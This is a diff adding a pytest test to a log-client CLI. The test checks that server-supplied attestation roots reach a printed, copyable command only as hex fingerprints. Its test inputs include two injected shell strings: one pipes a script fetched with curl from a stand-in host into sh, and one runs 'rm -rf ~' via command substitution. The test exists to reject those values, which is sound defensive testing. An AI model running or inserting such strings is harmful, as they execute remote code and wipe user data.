@@ -551,3 +551,19 @@ def test_a_bad_key_is_named_by_where_it_came_from(
     monkeypatch.setenv("ATLAS_LOG_VKEY", "<the verifier key make run printed>")
     assert cli.main(["get", "4"]) == 2
     assert "ATLAS_LOG_VKEY is not a verifier key" in capsys.readouterr().err
+
+
+def test_what_a_server_names_goes_into_a_printed_command_only_as_a_fingerprint() -> None:
+    """The roots a development log names are printed into commands people copy: a lying server's shell text in
+    their place is left out."""
+    from atlas_log.answers import LogInfo
+
+    root, device = "ab" * 32, "cd" * 32
+
+    def options(simulated_root: str, device_root: str) -> str:
+        attestation = {"simulated": True, "simulatedRoot": simulated_root, "gpu": {"deviceRoot": device_root}}
+        return cli._simulated_root_options(LogInfo("o", "k", 0, b"", attestation, None))
+
+    assert options(root, device) == f"--tdx-root {root} --gpu-device-root {device}"
+    assert options(root, "x; curl evil.example | sh") == f"--tdx-root {root}"
+    assert options("$(rm -rf ~)", device) == ""
